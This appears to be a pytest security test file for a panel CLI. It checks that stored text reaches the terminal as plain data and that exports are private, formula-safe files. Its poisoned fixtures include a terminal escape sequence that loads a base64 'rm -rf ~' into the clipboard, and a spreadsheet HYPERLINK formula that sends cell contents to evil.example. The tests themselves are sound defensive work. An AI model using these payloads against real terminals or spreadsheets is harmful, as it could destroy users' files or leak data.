"""CLI output of stored text is data, never a command; exports are private files.

Stored values are poisoned with raw SQL (the app's own input cleaning would
refuse them), as a file edited behind the app's back would be.
"""

from __future__ import annotations

import csv
import os
import stat

import pytest
from sqlalchemy import text

from db.demo import DEMO_KEY, ensure_demo
from db.engine import open_database, sqlite_url
from panel_tui.cli import main

EVIL = "Amira\x1b]52;c;cm0gLXJmIH4=\x07 Okafor\x1b[2J\x07\x9b31m\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BAD_BYTES = ("\x1b", "\x07", "\x9b", "\u202e")


@pytest.fixture
def poisoned(tmp_path):
    path = tmp_path / "panel.db"
    database = open_database(sqlite_url(path))
    with database.session() as s:
        campaign = ensure_demo(s)
        s.exec(text("update candidate set name = :n where ref = 'HRBP-001'"), params={"n": EVIL})
        s.exec(text("update candidate set adjustments = :n where ref = 'HRBP-002'"), params={"n": "Break\x1b]0;pwned\x07"})
        s.exec(text("update campaignitem set name = :n where campaign_id = :c and position = "
                    "(select min(position) from campaignitem where campaign_id = :c)"),
               params={"n": FORMULA, "c": campaign.id})
        s.commit()
    database.dispose()
    return path


def run(capsys, db, *args):
    code = main(["--db", str(db), *args])
    out, err = capsys.readouterr()
    return code, out, err


def assert_clean(output: str) -> None:
    assert not any(b in output for b in BAD_BYTES), repr(output)


@pytest.mark.parametrize("args", [
    ("candidates", "list", DEMO_KEY),
    ("results", "merit", DEMO_KEY),
    ("results", "feedback", DEMO_KEY, "HRBP-001"),
    ("results", "record", DEMO_KEY, "HRBP-001", "--md", "-"),
    ("results", "export", DEMO_KEY, "--format", "csv"),
    ("results", "export", DEMO_KEY),
    ("results", "merit", DEMO_KEY, "--csv", "-"),
])
def test_no_escape_or_control_bytes_reach_the_terminal(capsys, poisoned, args):
    code, out, err = run(capsys, poisoned, *args)
    assert code == 0, err
    assert_clean(out)
    assert "Amira" in out or "HRBP-001" in out  # the text itself is still shown


def test_candidates_list_keeps_the_readable_text(capsys, poisoned):
    out = run(capsys, poisoned, "candidates", "list", DEMO_KEY)[1]
    assert "HRBP-001\tAmira Okafor\t" in out
    assert "\tBreak\n" in out


def test_merit_csv_header_and_cells_are_not_formulas(capsys, poisoned, tmp_path):
    target = tmp_path / "merit.csv"
    assert run(capsys, poisoned, "results", "merit", DEMO_KEY, "--csv", str(target))[0] == 0
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert "'" + FORMULA in rows[0]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert all(not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit() for row in rows for cell in row)
    export = tmp_path / "results.csv"
    assert run(capsys, poisoned, "results", "export", DEMO_KEY, "--format", "csv", "--out", str(export))[0] == 0
    cells = [c for row in csv.reader(export.open(encoding="utf-8", newline="")) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.parametrize("args, name", [
    (("results", "export", DEMO_KEY, "--out"), "results.json"),
    (("results", "export", DEMO_KEY, "--format", "csv", "--out"), "results.csv"),
    (("results", "merit", DEMO_KEY, "--csv"), "merit.csv"),
    (("results", "record", DEMO_KEY, "HRBP-001", "--md"), "record.md"),
    (("results", "record", DEMO_KEY, "HRBP-001", "--pdf"), "record.pdf"),
    (("results", "feedback", DEMO_KEY, "HRBP-001", "--out"), "feedback.txt"),
])
def test_exports_are_owner_only_even_over_an_open_file(capsys, poisoned, tmp_path, args, name):
    target = tmp_path / "out" / name
    target.parent.mkdir()
    code, out, err = run(capsys, poisoned, *args, str(target))
    assert (code, err) == (0, "") and out == ""
    assert mode(target) == 0o600
    target.write_text("old", encoding="utf-8")
    target.chmod(0o644)
    assert run(capsys, poisoned, *args, str(target))[0] == 0
    assert mode(target) == 0o600 and target.read_bytes() != b"old"
    assert sorted(p.name for p in target.parent.iterdir()) == [name]  # no temporary file left behind
    if name.endswith((".md", ".txt", ".csv", ".json")):
        assert_clean(target.read_text(encoding="utf-8"))


def test_records_carry_the_protective_marking(capsys, poisoned):
    out = run(capsys, poisoned, "results", "record", DEMO_KEY, "HRBP-001", "--md", "-")[1]
    assert out.startswith("**OFFICIAL-SENSITIVE**") and out.rstrip().endswith("OFFICIAL-SENSITIVE**")
    assert out.count("OFFICIAL-SENSITIVE") == 2


def test_write_private_replaces_atomically(tmp_path):
    from db.files import write_private

    target = tmp_path / "x.txt"
    assert write_private(target, "één\n") == target
    assert target.read_bytes() == "één\n".encode() and mode(target) == 0o600
    write_private(target, b"\x00\x01")
    assert target.read_bytes() == b"\x00\x01" and mode(target) == 0o600
    with pytest.raises(OSError):
        write_private(tmp_path / "missing" / "y.txt", "x")
    assert [p.name for p in tmp_path.iterdir()] == ["x.txt"]
